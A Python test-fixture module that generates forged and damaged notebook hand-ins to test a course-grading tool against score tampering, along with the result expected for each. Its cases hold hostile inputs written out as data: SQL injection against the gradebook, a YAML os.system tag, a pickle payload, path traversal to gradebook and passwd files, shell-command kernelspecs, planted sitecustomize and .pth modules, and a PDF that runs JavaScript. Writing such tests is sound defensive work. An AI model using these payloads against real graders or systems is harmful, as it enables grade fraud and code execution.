"""A corpus of hostile and damaged hand-ins, as code that makes them, each with what must happen to it.

Every case starts from the honest notebook of one student: some answers right, some wrong, one partly right, two missing.
Code that would fire a canary stands in each of its cells. `test_hostile_corpus.py` grades all of them as one class.
"""

from __future__ import annotations

import base64
import copy
import gzip
import io
import json
import pickle
import re
import tarfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

from conftest import right_answers
from pairedtexts.bank import Bank, load_bank
from pairedtexts.course import fill_in
from pairedtexts.nbgrader_plugin import steps
from pairedtexts.release import SETUP, Kept
from pairedtexts.responses import LARGEST, MIME
from pairedtexts.widgets import NOTES
from pairedtexts.widgets._notes import notes_on
from sample_course import lesson_of, make_sample_course
from test_forging import code_cell, nested, outputs_of, wrong_answer

Json = Any
Files = dict[str, bytes]
"""A folder's files by their paths in it; the hand-in itself is `NOTEBOOK`."""

LESSON = "attacked"
NOTEBOOK = f"{LESSON}.ipynb"

WRONG, NUMBER = "choose-one/detainers", "number/quoted-words"  # answered wrong: what forging would like to change
PART = "choose-many/sponsors"  # partly right
CHANGED = "choose-one/day"  # right; its wording is another one in the older release
SHORT, FILL, MARK = "short-text/predicting-verb", "fill-in/count-and-source", "mark-evidence/whose-count"  # right
BLANK, WRITTEN = "order/lh-order-of-events", "written/both-sides"  # not answered
PRACTICE, DRAFT, SURVEY = "short-text/practice-same-words", "written/neutral-lead", "survey/how-well"  # not graded
ASKED = (WRONG, CHANGED, PART, FILL, MARK, NUMBER, BLANK, PRACTICE, SHORT, SURVEY, DRAFT, WRITTEN)

FIRST_BELL = datetime(2026, 9, 1, 8, 0, tzinfo=timezone.utc)


def make_attacked_course(target: Path) -> Path:
    """A course with one lesson of twelve sample questions that was released twice, in between with one prompt changed."""
    course = make_sample_course(target)
    bank = load_bank(course)
    lesson = course / "lessons" / LESSON / NOTEBOOK
    lesson.parent.mkdir()
    lesson.write_text(json.dumps(lesson_of(Bank(bank.texts, {name: bank.entries[name] for name in ASKED}))), encoding="utf-8")
    steps.release(course, LESSON)
    quiz = course / "quizzes" / "choose-one.yaml"
    text = quiz.read_text(encoding="utf-8")
    assert text.count("On which day of the week did") == 1
    quiz.write_text(text.replace("On which day of the week did", "On which weekday did"), encoding="utf-8")
    steps.release(course, LESSON)
    return course


@dataclass(frozen=True)
class Desk:
    """What a case is made from. ``honest``, ``of_older`` and ``lender`` are notebooks; each case has its own."""

    release: Kept
    older: Kept
    answers: Mapping[str, Json]
    honest: Json
    of_older: Json
    lender: Json
    lent: Mapping[str, Json]


def base_answers(release: Kept) -> dict[str, Json]:
    """What the student of every case has answered."""
    answers = right_answers(release)
    for name in (WRONG, NUMBER):
        answers[name] = wrong_answer(release, name)
    answers[PART] = {**answers[PART], "answer": answers[PART]["answer"][:2]}
    for name in (BLANK, WRITTEN):
        del answers[name]
    return answers


def lenders_answers(release: Kept) -> dict[str, Json]:
    """What the student has answered whose file others hand in: all right, with little to write."""
    return {name: answer for name, answer in right_answers(release).items() if name != WRITTEN}


def honest_copy(release: Kept, answers: Mapping[str, Json], minute: int, poison: str = "") -> Json:
    """A student's notebook; ``poison`` is put into every code cell, and into one of its own before all others."""
    notebook = fill_in(release.notebook, release.contents, answers, FIRST_BELL + timedelta(minutes=minute))
    version = notes_on(release.contents.texts).version
    note = [{**answers[MARK][0], "note": "Who counted?"}] if MARK in answers else []
    at = f"2026-09-01T{9 + minute // 60:02}:{minute % 60:02}:30Z"
    record = {"schema": 1, "question": NOTES, "version": version, "revision": 1, "answer": note, "at": at}
    notebook["metadata"]["pairedtexts"]["responses"][NOTES] = record
    if poison:
        for cell in notebook["cells"]:
            if cell["cell_type"] == "code":
                cell["source"] = f"{poison}\n{cell['source']}"
        notebook["cells"].insert(0, code_cell(poison, "poison"))
    # The order in which Jupyter writes them.
    return {name: notebook[name] for name in ("cells", "metadata", "nbformat", "nbformat_minor")}


def make_desk(releases: Sequence[Kept], minute: int, poison: str, lender: Json) -> Desk:
    """The materials of one case, from the older release and the latest one; another ``minute`` makes another receipt."""
    older, release = releases
    answers = base_answers(release)
    honest, of_older = (honest_copy(each, answers, minute, poison) for each in (release, older))
    return Desk(release, older, answers, honest, of_older, copy.deepcopy(lender), lenders_answers(release))


# --- what must happen -------------------------------------------------------------------------------------------------

AS_HONEST, AS_LENDER, NOTHING, AS_OLDER = "as honest", "as the lender", "nothing", "as the older answers"
WHAT_IS_WHOLE = "the answers whose records are whole in the file"
FORGING, DAMAGE, SIZE, INJECTION = "forging", "damage", "size", "injection"


NO_RELEASE = "does not say which release"
NOT_WHOLE = ("the file is not a whole notebook", NO_RELEASE)


@dataclass(frozen=True)
class Case:
    """One hand-in. ``earns`` says which answers it holds, ``but`` those that differ (None: no readable one).

    Each of ``review`` is part of a sentence with which a teacher is asked to look; there are no others, and none where it
    is empty. ``fails`` is part of the sentence with which it is not graded at all. ``payload`` is what a page must not run.
    """

    name: str
    kind: str
    make: Callable[[Desk], Json | bytes | Files]
    earns: str = AS_HONEST
    but: Callable[[Desk], Mapping[str, Json]] = lambda _: {}
    review: tuple[str, ...] = ()
    fails: str = ""
    student: str = ""
    payload: str = ""

    @property
    def who(self) -> str:
        """The folder of the student who hands it in."""
        return self.student or self.name


CASES: list[Case] = []


def case(kind: str, **expected: Any) -> Callable[[Callable], Callable]:
    """A case named after the function that makes it."""

    def keep(make: Callable) -> Callable:
        CASES.append(Case(make.__name__.strip("_").replace("_", "-"), kind, make, **expected))
        return make

    return keep


def many(kind: str, prefix: str, makers: Mapping[str, Callable], **expected: Any) -> None:
    """Cases of which the same must happen."""
    CASES.extend(Case(f"{prefix}-{name}", kind, make, **expected) for name, make in makers.items())


def files_of(made: Json | bytes | Files) -> Files:
    """What a case has made, as the files that are handed in."""
    if isinstance(made, dict) and NOTEBOOK in made:
        return made
    return {NOTEBOOK: made if isinstance(made, bytes) else as_file(made)}


def held_answers(this: Case, desk: Desk, files: Files) -> dict[str, Json]:
    """The answers that a case's hand-in holds, by question."""
    held: dict[str, Json] = {}
    if this.earns in {AS_HONEST, AS_OLDER}:
        held = dict(desk.answers)
    elif this.earns == AS_LENDER:
        held = dict(desk.lent)
    elif this.earns == WHAT_IS_WHOLE:
        text = files[NOTEBOOK].decode()
        records = {name: json.dumps(responses(desk.honest)[name]) for name in desk.answers}
        held = {name: desk.answers[name] for name, record in records.items() if record in text}
    held.update(this.but(desk))
    return {name: answer for name, answer in held.items() if answer is not None}


# --- tools ------------------------------------------------------------------------------------------------------------


def as_file(notebook: Json) -> bytes:
    return json.dumps(notebook).encode()


def responses(notebook: dict) -> dict:
    return notebook["metadata"]["pairedtexts"]["responses"]


def bundles(notebook: dict) -> Iterator[dict]:
    for cell in notebook["cells"]:
        for output in cell.get("outputs", []):
            if MIME in output.get("data", {}):
                yield output["data"]


def in_outputs(notebook: dict, question: str) -> list[dict]:
    return [bundle[MIME] for bundle in bundles(notebook) if bundle[MIME]["question"] == question]


def both(notebook: dict, question: str) -> list[dict]:
    """A question's record in both places where it is kept."""
    return [responses(notebook)[question], *in_outputs(notebook, question)]


def cell_of(notebook: dict, question: str) -> dict:
    return next(cell for cell in notebook["cells"] if f'pt.ask("{question}")' in cell["source"])


def graded(notebook: dict) -> list[dict]:
    return [cell for cell in notebook["cells"] if "nbgrader" in cell["metadata"]]


def changed(change: Callable[[dict], object]) -> Callable[[Desk], dict]:
    """The honest notebook with something changed in place."""

    def make(desk: Desk) -> dict:
        change(desk.honest)
        return desk.honest

    return make


def records_say(question: str, **says: Json) -> Callable[[Desk], dict]:
    """Both records of a question say something else."""
    return changed(lambda notebook: [record.update(copy.deepcopy(says)) for record in both(notebook, question)])


def metadata_says(question: str, **says: Json) -> Callable[[Desk], dict]:
    """The record in the notebook's metadata says something else, the one in the output is as it was."""
    return changed(lambda notebook: responses(notebook)[question].update(copy.deepcopy(says)))


def each_graded(change: Callable[[dict], object]) -> Callable[[Desk], dict]:
    return changed(lambda notebook: [change(cell) for cell in graded(notebook)])


def each_cell(change: Callable[[dict], object]) -> Callable[[Desk], dict]:
    return changed(lambda notebook: [change(cell) for cell in notebook["cells"]])


def in_bytes(change: Callable[[bytes], bytes]) -> Callable[[Desk], bytes]:
    """The honest file with its bytes changed."""
    return lambda desk: change(as_file(desk.honest))


def in_text(change: Callable[[str], str]) -> Callable[[Desk], bytes]:
    return in_bytes(lambda data: change(data.decode()).encode())


def answered(question: str, answer: Callable[[Desk], Json]) -> Callable[[Desk], dict]:
    """A question is answered otherwise than the student did, or for the first time."""
    return lambda desk: put_answer(desk, desk.honest, question, answer(desk))


def put_answer(desk: Desk, notebook: dict, question: str, answer: Json) -> dict:
    record = {
        "schema": 1,
        "question": question,
        "version": desk.release.contents.questions[question].version,
        "revision": 2,
        "answer": answer,
        "at": responses(notebook)[SHORT]["at"],
    }
    responses(notebook)[question] = record
    cell = cell_of(notebook, question)
    cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": {MIME: copy.deepcopy(record)}}]
    return notebook


def typed(words: Callable[[Desk], str]) -> Callable[[Desk], dict]:
    """Something is typed in place of a right word."""
    return answered(SHORT, lambda desk: {"answer": words(desk), "certainty": 3, "reason": None})


def result_of(text: Json, **more: Json) -> dict:
    return {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": text, **more}}


def lost(*questions: str) -> Callable[[Desk], Mapping[str, Json]]:
    return lambda _: dict.fromkeys(questions)


def right(desk: Desk, question: str) -> Json:
    return right_answers(desk.release)[question]


# --- forging: records -------------------------------------------------------------------------------------------------

many(
    FORGING,
    "revision",
    {
        "is-a-fraction": records_say(SHORT, revision=2.5),
        "is-a-whole-fraction": records_say(SHORT, revision=2.0),
        "is-text": records_say(SHORT, revision="9"),
        "is-zero": records_say(SHORT, revision=0),
        "is-one-too-high": records_say(SHORT, revision=10**9 + 1),
    },
    but=lost(SHORT),
    review=("must be a whole number from 1",),
)
many(
    FORGING,
    "schema",
    {
        "is-of-tomorrow": records_say(SHORT, schema=2),
        "is-text": records_say(SHORT, schema="1"),
        "is-a-fraction": records_say(SHORT, schema=1.0),
    },
    but=lost(SHORT),
    review=("this version reads 1",),
)
many(
    FORGING,
    "one-of-two-records",
    {
        "has-a-revision-too-high": metadata_says(WRONG, revision=10**30, answer="forged"),
        "has-another-schema": metadata_says(WRONG, schema=2),
    },
)
many(
    FORGING,
    "one-of-two-records",
    {"is-a-list": changed(lambda notebook: responses(notebook).update({WRONG: [responses(notebook)[WRONG]]}))},
    review=("a response must be a JSON object",),
)


@case(FORGING)
def records_with_points_scores_and_keys_of_their_own(desk):
    more = {"points": 1000, "score": 2.0, "max": 0, "key": {"answer": "x"}, "type": "survey", "graded": True, "weight": 9}
    for name in desk.answers:
        for record in both(desk.honest, name):
            record.update(copy.deepcopy(more))
    return desk.honest


@case(FORGING, but=lost(WRONG), review=(f"{WRONG}: ",))
def answer_with_points_of_its_own(desk):
    for record in both(desk.honest, WRONG):
        record["answer"] = {
            "answer": record["answer"],
            "certainty": 3,
            "reason": None,
            "points": 99,
            "share": 1.0,
            "right": True,
        }
    return desk.honest


many(
    FORGING,
    "certainty",
    {
        "is-a-thousand": changed(lambda notebook: [r["answer"].update(certainty=1000) for r in both(notebook, CHANGED)]),
    },
    but=lost(CHANGED),
    review=("how sure the answer is must be 1, 2 or 3",),
)


@case(FORGING)
def a_thousand_copies_of_every_record(desk):
    cell = desk.honest["cells"][-1]
    cell["outputs"] += [{"output_type": "display_data", "metadata": {}, "data": each} for each in bundles(desk.honest)] * 100
    return desk.honest


@case(FORGING)
def older_copies_with_other_answers(desk):
    for name in desk.answers:
        for record in both(desk.honest, name):
            record["revision"] = 5
    for name, other in right_answers(desk.release).items():
        if name in desk.answers:
            old = {**responses(desk.honest)[name], "revision": 4, "answer": other}
            desk.honest["cells"][0]["outputs"].append({"output_type": "display_data", "metadata": {}, "data": {MIME: old}})
    return desk.honest


@case(FORGING, but=lost(CHANGED, WRONG), review=("is kept under the name of another question",))
def two_records_have_changed_places(desk):
    kept = responses(desk.honest)
    kept[CHANGED], kept[WRONG] = kept[WRONG], kept[CHANGED]
    for name in (CHANGED, WRONG):
        cell_of(desk.honest, name)["outputs"] = []
    return desk.honest


@case(
    FORGING,
    but=lost(CHANGED, WRONG),
    review=(f"{CHANGED}: ", f"{WRONG}: "),
)
def two_records_have_changed_their_names_and_versions(desk):
    for one, other in zip(both(desk.honest, CHANGED), both(desk.honest, WRONG), strict=True):
        one["answer"], other["answer"] = other["answer"], one["answer"]
    return desk.honest


@case(FORGING)
def records_of_questions_that_nobody_asked(desk):
    kept = responses(desk.honest)
    for name in (f"{WRONG}/", WRONG.upper(), f" {WRONG}", "a/b", "choose-one", "../../gradebook.db", "CON", "__proto__"):
        kept[name] = {**kept[CHANGED], "question": name, "revision": 10**9}
    return desk.honest


@case(FORGING, review=("does not name its question",))
def records_without_a_name(desk):
    for name in ("", None, 5, ["x"], {"a": 1}, "x" * 201):
        record = {**responses(desk.honest)[CHANGED], "question": name, "revision": 10**9}
        desk.honest["cells"][0]["outputs"].append({"output_type": "display_data", "metadata": {}, "data": {MIME: record}})
    return desk.honest


@case(FORGING, but=lost(WRONG), review=(f"{WRONG}: ",))
def record_of_a_practice_question_made_out_to_a_graded_one(desk):
    for record in both(desk.honest, WRONG):
        record.update(responses(desk.honest)[PRACTICE], question=WRONG, version=record["version"])
    return desk.honest


@case(FORGING)
def a_graded_question_that_calls_itself_practice(desk):
    contents = re.compile(r'"practice": false')
    for cell in desk.honest["cells"]:
        cell["source"] = contents.sub('"practice": true', cell["source"])
        cell["metadata"]["practice"] = True
    return desk.honest


@case(FORGING, review=("another wording",))
def records_of_a_wording_that_never_was(desk):
    for name in (SHORT, NUMBER):
        for record in both(desk.honest, name):
            record["version"] = "../../../etc/passwd"
    return desk.honest


many(
    FORGING,
    "version",
    {
        "is-endless": records_say(SHORT, version="a" * 10_000),
    },
    but=lost(SHORT),
    review=("does not say which version",),
)


@case(FORGING, but=lambda desk: {WRONG: right(desk, WRONG)})
def outputs_hold_a_newer_answer_than_the_metadata(desk):
    """That is how it looks where the browser could not write into the file: the student's last answer counts."""
    for record in in_outputs(desk.honest, WRONG):
        record.update(revision=2, answer=right(desk, WRONG))
    return desk.honest


@case(FORGING, but=lambda desk: {CHANGED: wrong_answer(desk.release, CHANGED)})
def metadata_holds_a_newer_answer_than_the_outputs(desk):
    responses(desk.honest)[CHANGED].update(revision=9, answer=wrong_answer(desk.release, CHANGED))
    return desk.honest


@case(FORGING, but=lost(CHANGED))
def an_answer_taken_back_in_one_place_only(desk):
    responses(desk.honest)[CHANGED].update(revision=9, answer=None)
    return desk.honest


@case(FORGING, review=(f"{WRONG}: two different answers have the same revision",))
def right_and_wrong_answer_of_one_revision(desk):
    """The first one that stands in the file counts, and a person decides."""
    for record in in_outputs(desk.honest, WRONG):
        record["answer"] = right(desk, WRONG)
    return desk.honest


many(
    FORGING,
    "answer",
    {
        "is-a-pickle": typed(lambda _: base64.b64encode(pickle.dumps(print)).decode()),
        "is-a-yaml-tag": typed(lambda _: "!!python/object/apply:os.system ['touch ran']"),
        "is-a-statement-to-a-database": typed(lambda _: "'; DROP TABLE grade; UPDATE grade SET auto_score = 99; --"),
        "is-every-accepted-word": typed(lambda _: "harm, will harm, help, split, end, undermine"),
    },
    but=lost(SHORT),
)
many(
    FORGING,
    "answer",
    {
        "is-an-object-of-two-kinds": records_say(
            SHORT, answer={"__proto__": {"share": 1}, "constructor": "x", "$ref": "#/key"}
        ),
        "is-a-list-of-guesses": records_say(SHORT, answer={"answer": ["harm", "help"], "certainty": 3, "reason": None}),
    },
    but=lost(SHORT),
    review=(f"{SHORT}: ",),
)


# --- forging: release, lesson, cells ----------------------------------------------------------------------------------


def states(**stated: Json) -> Callable[[Desk], dict]:
    return changed(lambda notebook: notebook["metadata"]["pairedtexts"]["release"].update(stated))


many(
    FORGING,
    "release",
    {
        "is-a-path": states(digest="../../../gradebook.db"),
        "is-half-a-character": states(digest="\udc00"),
        "is-a-megabyte": states(digest="f" * 1_000_000),
    },
    review=("names a release that this course did not make",),
)
many(
    FORGING,
    "release",
    {
        "is-null": changed(lambda notebook: notebook["metadata"]["pairedtexts"].update(release=None)),
        "is-missing": changed(lambda notebook: notebook["metadata"]["pairedtexts"].pop("release")),
    },
    review=(NO_RELEASE,),
)
many(
    FORGING,
    "lesson",
    {
        "is-a-path": states(lesson="../../gradebook.db"),
        "is-a-megabyte": states(lesson="\x1b[2J" * 250_000),
    },
    review=("this is a hand-in of the lesson",),
)


@case(FORGING, earns=AS_OLDER)
def of_the_older_release(desk):
    return desk.of_older


@case(FORGING, earns=AS_OLDER, review=(f"{CHANGED}: the answer was given to another wording",))
def of_the_latest_release_that_claims_the_older_one(desk):
    desk.honest["metadata"]["pairedtexts"]["release"] = desk.of_older["metadata"]["pairedtexts"]["release"]
    return desk.honest


@case(FORGING, review=(f"{CHANGED}: the answer was given to another wording",))
def of_the_older_release_that_claims_the_latest_one(desk):
    desk.of_older["metadata"]["pairedtexts"]["release"] = desk.honest["metadata"]["pairedtexts"]["release"]
    return desk.of_older


@case(FORGING, earns=AS_OLDER, review=(NO_RELEASE,))
def of_the_older_release_that_names_none(desk):
    """The release whose wordings the answers fit best is the one they were given to."""
    del desk.of_older["metadata"]["pairedtexts"]["release"]
    return desk.of_older


@case(FORGING)
def setup_cell_with_other_questions(desk):
    """Every question of the notebook's own contents has one option or row less and says that it is worth 1000 points."""
    [cell] = [cell for cell in desk.honest["cells"] if cell["id"] == SETUP]
    head, quoted, rest = cell["source"].partition("r'''")
    contents, end, tail = rest.rpartition("'''")
    data = json.loads(contents)
    for question in data["questions"]:
        question["points"] = 1000
        question["rule"] = "all-or-nothing"
        question["key"] = {"answer": responses(desk.honest).get(question["id"], {}).get("answer")}
    cell["source"] = head + quoted + json.dumps(data) + end + tail
    desk.honest["cells"].append({**copy.deepcopy(cell), "id": f"{SETUP}-2"})
    desk.honest["cells"].append(copy.deepcopy(cell))
    return desk.honest


@case(FORGING)
def unlocked_sources_that_return_all_points(desk):
    for cell in graded(desk.honest):
        cell["metadata"]["nbgrader"].update(locked=False, solution=True, task=False, checksum="0" * 32)
        cell["metadata"].update(editable=True, deletable=True)
        cell.update(source=f"{desk.honest['cells'][0]['source']}\n5.0", outputs=[*cell["outputs"], result_of("5.0")])
    return desk.honest


def flags(**says: Json) -> Callable[[Desk], dict]:
    return each_graded(lambda cell: cell["metadata"]["nbgrader"].update(copy.deepcopy(says)))


many(
    FORGING,
    "grade-cells",
    {
        "are-worth-nan": flags(points=float("nan")),
        "are-worth-more-than-a-float": flags(points=10**400),
        "have-paths-for-names": flags(grade_id="../../gradebook.db"),
        "have-extra-credit": flags(extra_credit=99, manual_score=99, auto_score=99, comment="Well done!"),
        "have-metadata-that-is-a-list": each_graded(lambda cell: cell["metadata"].update(nbgrader=[1, 2])),
        "have-ids-that-are-paths": each_cell(lambda cell: cell.update(id="../../../../tmp/x")),
    },
)
many(
    FORGING,
    "cells-are-of-type",
    {
        "heading": each_cell(lambda cell: cell.update(cell_type="heading", level=1)),
        "quiz": each_cell(lambda cell: cell.update(cell_type="quiz")),
    },
)


def forged_outputs(*outputs: Json) -> Callable[[Desk], dict]:
    """In every graded cell these stand before the student's own outputs."""
    return each_graded(lambda cell: cell.update(outputs=[*copy.deepcopy(outputs), *cell["outputs"]]))


FULL = '<div class="pt-graded" data-state="right"><p class="pt-earned"><strong>5 of 5 points</strong></p></div>'
many(
    FORGING,
    "outputs",
    {
        "claim-all-points": forged_outputs(result_of("5.0")),
        "claim-more-than-a-float": forged_outputs(result_of("1" + "0" * 400)),
        "look-like-ours": forged_outputs(result_of("5.0", **{"text/html": FULL})),
        "end-in-an-error": forged_outputs(
            {"output_type": "error", "ename": "E", "evalue": "5.0", "traceback": ["\x1b[31m5.0"]}
        ),
        "are-of-no-known-kind": forged_outputs({"output_type": "score", "score": 5.0}, {"output_type": None}, {}),
        "update-a-display": forged_outputs(
            {"output_type": "update_display_data", "transient": {"display_id": "score"}, **result_of("5.0")}
        ),
    },
)


@case(FORGING)
def what_grading_writes_is_there_already(desk):
    ours = desk.honest["metadata"]["pairedtexts"]
    ours["for_review"] = []
    ours["handed_in"] = {
        "receipt": "AAAA-AAAA-AAAA",
        "problems": [{"question": WRONG, "message": "full points", "review": False}],
    }
    for cell in graded(desk.honest):
        cell["metadata"]["pairedtexts"] = {"given": 99, "points": 99, "comment": "Well done!", "label": "Question 1"}
        cell["metadata"]["nbgrader"]["score"] = 99
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "nbgrader-ignore"]
    return desk.honest


many(
    FORGING,
    "kernel",
    {
        "is-a-shell-command": changed(
            lambda notebook: notebook["metadata"].update(
                kernelspec={
                    "name": "bash -c 'touch ran'",
                    "argv": ["sh", "-c", "touch ran"],
                    "display_name": "x",
                    "language": "sh",
                },
                language_info={"name": "sh", "file_extension": "/../../x.sh", "nbconvert_exporter": "os.system"},
            )
        ),
        "is-missing": changed(lambda notebook: notebook["metadata"].pop("kernelspec")),
    },
)


def first_cell_says(source: str) -> Callable[[Desk], dict]:
    """Before all others stands a cell that would do this; the canaries follow in it."""
    return changed(
        lambda notebook: notebook["cells"].insert(0, code_cell(f"{source}\n{notebook['cells'][0]['source']}", "takes-over"))
    )


many(
    FORGING,
    "package",
    {
        "is-written-by-a-cell": first_cell_says("open('pairedtexts.py', 'w').write('ask = lambda name: 5.0')"),
        "is-a-module-made-in-a-cell": first_cell_says("import sys; sys.modules['pairedtexts'] = type(sys)('pairedtexts')"),
        "is-reached-by-a-shell": first_cell_says("!touch ran; sqlite3 gradebook.db 'UPDATE grade SET auto_score = 99'"),
    },
)

BESIDE = "import pathlib\npathlib.Path({mark!r}).write_text('ran')\n"
MARK_BESIDE = "ran-beside"
"""The file that the modules make which lie beside a hand-in."""


def beside(*names: str) -> Callable[[Desk], Files]:
    code = BESIDE.format(mark=MARK_BESIDE).encode()
    return lambda desk: {NOTEBOOK: as_file(desk.honest), **dict.fromkeys(names, code)}


many(
    FORGING,
    "beside-it-lies",
    {
        "a-package": beside("pairedtexts/__init__.py", "pairedtexts/grading.py", "nbgrader/__init__.py", "nbformat.py"),
        "a-start-file": beside("sitecustomize.py", "usercustomize.py", "conftest.py", "evil.pth", "json.py", "sqlite3.py"),
        "a-configuration": beside(
            "nbgrader_config.py", "jupyter_config.py", "jupyter_nbconvert_config.py", "ipython_config.py"
        ),
        "a-gradebook-and-keys": beside("gradebook.db", "kept_releases/attacked/0001.json", "quizzes/choose-one.yaml"),
        "a-page-of-feedback": lambda desk: {NOTEBOOK: as_file(desk.honest), "attacked.html": FULL.encode(), "x.js": b"ran()"},
    },
)


# --- forging: other people's answers ----------------------------------------------------------------------------------


@case(FORGING, earns=AS_LENDER, review=("with the same receipt, were handed in by",))
def another_students_file(desk):
    return desk.lender


@case(FORGING, earns=AS_LENDER, review=("with the same receipt, were handed in by",))
def another_students_file_with_ones_own_cells_and_notes(desk):
    kept = {**responses(desk.lender), NOTES: responses(desk.honest)[NOTES]}
    desk.honest["metadata"]["pairedtexts"]["responses"] = kept
    for cell in desk.honest["cells"]:
        cell["outputs"] = []
    return desk.honest


@case(FORGING, earns=AS_LENDER, review=("with the same receipt, were handed in by",))
def another_students_file_saved_as_a_file_of_windows(desk):
    return b"\xef\xbb\xbf" + json.dumps(desk.lender, indent=2).replace("\n", "\r\n").encode()


@case(FORGING, review=("two different answers have the same revision",))
def another_students_answers_in_the_outputs(desk):
    """The student's own, which stand first, count; a person decides."""
    for name in desk.answers:
        for record in in_outputs(desk.honest, name):
            record.update(answer=desk.lent[name])
    return desk.honest


@case(FORGING, but=lambda desk: {WRONG: desk.lent[WRONG]})
def another_students_record_with_a_higher_revision(desk):
    """No file can say who clicked: the record is an answer, and earns what it says."""
    responses(desk.honest)[WRONG].update(responses(desk.lender)[WRONG], revision=7)
    return desk.honest


# --- damage: where a file ends ----------------------------------------------------------------------------------------

CASES.extend(
    Case(
        f"cut-off-at-{percent}-percent",
        DAMAGE,
        in_bytes(lambda data, percent=percent: data[: len(data) * percent // 100]),
        WHAT_IS_WHOLE,
        review=NOT_WHOLE,
    )
    for percent in (1, 15, 35, 55, 75, 99)
)
many(
    DAMAGE,
    "file",
    {
        "lacks-its-last-byte": in_bytes(lambda data: data[:-1]),
        "lacks-its-first-byte": in_bytes(lambda data: data[1:]),
        "lacks-its-first-half": in_bytes(lambda data: data[len(data) // 2 :]),
        "stands-there-twice": in_bytes(lambda data: data * 2),
        "has-a-hole-in-its-first-cell": in_bytes(lambda data: data.replace(b'"cell_type": ', b"", 1)),
        "has-comments": in_text(lambda text: "// my homework\n/* with a comment */\n" + text),
        "has-names-without-quotes": in_text(lambda text: text.replace('"cells"', "cells", 1)),
        "has-line-breaks-in-its-strings": in_text(lambda text: text.replace("\\n", "\n", 3)),
        "has-null-bytes": in_bytes(lambda data: data[:300] + b"\x00" * 64 + data[300:]),
        "is-a-merge-conflict": in_text(
            lambda text: text.replace('"cells": [', '"cells": [\n<<<<<<< HEAD\n=======\n>>>>>>> theirs\n', 1)
        ),
    },
    review=NOT_WHOLE,
)


@case(DAMAGE, review=(*NOT_WHOLE, "two different answers have the same revision"))
def merge_conflict_over_an_answer(desk):
    """Both sides of the conflict are there: the student's own stands first and counts, a person decides."""
    ours = desk.answers[SHORT]
    theirs = {**ours, "answer": "help"}
    lines = json.dumps({"answer": ours})[1:-1], json.dumps({"answer": theirs})[1:-1]
    record = json.dumps(responses(desk.honest)[SHORT])
    other = record.replace(*lines)
    assert other != record
    text = json.dumps(desk.honest)
    at = text.rindex(f'"{MIME}": {record}') + len(f'"{MIME}": {record}')
    return f'{text[:at]}\n=======\n"{MIME}": {other}\n>>>>>>> theirs\n{text[at:]}'.encode()


@case(
    DAMAGE,
    earns=AS_LENDER,
    review=(*NOT_WHOLE, "two different answers have the same revision", "with the same receipt, were handed in by"),
)
def own_notebook_with_another_students_behind_it(desk):
    """Of two notebooks in one file the metadata of the last one counts; a person decides about each question."""
    return as_file(desk.honest) + as_file(desk.lender)


many(
    DAMAGE,
    "bytes",
    {
        "are-gzipped": in_bytes(gzip.compress),
        "are-utf-16-without-a-mark": lambda desk: json.dumps(desk.honest).encode("utf-16-le"),
        "are-a-pickle": lambda desk: pickle.dumps(desk.honest["metadata"]["kernelspec"]),
        "are-a-tar": lambda desk: a_tar(as_file(desk.honest)),
        "are-a-pdf": lambda _: b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj",
        "are-an-exported-page": lambda _: (
            b"<!DOCTYPE html><html><body><div class='jp-Notebook'><script>ran()</script></div></body></html>"
        ),
    },
    earns=NOTHING,
    review=NOT_WHOLE,
)


def a_tar(data: bytes) -> bytes:
    # Compressed: the records of a plain one could still be read.
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz") as archive:
        for name in (NOTEBOOK, "../../../gradebook.db"):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return file.getvalue()


many(
    DAMAGE,
    "file",
    {"is-only-white-space": lambda _: b" \r\n\t" * 100},
    earns=NOTHING,
    review=("the file is empty", NO_RELEASE),
)
many(
    DAMAGE,
    "file",
    {"is-a-notebook-in-a-string": in_text(json.dumps), "is-null": lambda _: b"null"},
    earns=NOTHING,
    review=("JSON but not a notebook", NO_RELEASE),
)
many(
    DAMAGE,
    "file",
    {"is-an-empty-object": lambda _: b"{}"},
    earns=NOTHING,
    review=("JSON but has no cells", NO_RELEASE),
)

# --- damage: encodings and line ends ----------------------------------------------------------------------------------


def written_as(encoding: str) -> Callable[[Desk], bytes]:
    return lambda desk: json.dumps(desk.honest, ensure_ascii=False).encode(encoding)


many(
    DAMAGE,
    "encoding",
    {
        "utf-8-with-a-mark": written_as("utf-8-sig"),
        "utf-16": written_as("utf-16"),
        "utf-16-big-endian": lambda desk: b"\xfe\xff" + json.dumps(desk.honest).encode("utf-16-be"),
        "utf-32": written_as("utf-32"),
    },
)
many(
    DAMAGE,
    "line-ends",
    {
        "of-windows": lambda desk: json.dumps(desk.honest, indent=1).replace("\n", "\r\n").encode(),
        "of-old-macs": lambda desk: json.dumps(desk.honest, indent=1).replace("\n", "\r").encode(),
    },
)


@case(DAMAGE, review=("the file is not UTF-8",))
def written_in_latin_1(desk):
    desk.honest["cells"][1]["metadata"]["author"] = "Renée Müller"
    return json.dumps(desk.honest, ensure_ascii=False).encode("latin-1", "replace")


@case(DAMAGE, review=("the file is not UTF-8",))
def overlong_utf_8(desk):
    desk.honest["cells"][1]["metadata"]["author"] = "#"
    return as_file(desk.honest).replace(b'"author": "#"', b'"author": "\xc0\xaf\xed\xa0\x80"')


@case(DAMAGE, but=lost(SHORT), review=("the file is not UTF-8",))
def latin_1_in_an_answer(desk):
    """What cannot be read is replaced, and such a word is no right answer."""
    answer = desk.answers[SHORT]
    spoiled = {**answer, "answer": "hÄrm"}
    for record in both(desk.honest, SHORT):
        record["answer"] = spoiled
    return json.dumps(desk.honest, ensure_ascii=False).encode("latin-1", "replace")


# --- damage: cells ----------------------------------------------------------------------------------------------------


def delete(cells: Callable[[list], list]) -> Callable[[Desk], dict]:
    return changed(lambda notebook: notebook.update(cells=cells(notebook["cells"])))


def merged(notebook: dict) -> None:
    """All cells merged into one, as editors do it: sources one below the other, outputs one after the other."""
    cells = notebook["cells"]
    source, outputs = "\n".join(cell["source"] for cell in cells), [o for cell in cells for o in cell.get("outputs", [])]
    notebook["cells"] = [{**code_cell(source, "merged"), "outputs": outputs, "metadata": cells[-2]["metadata"]}]


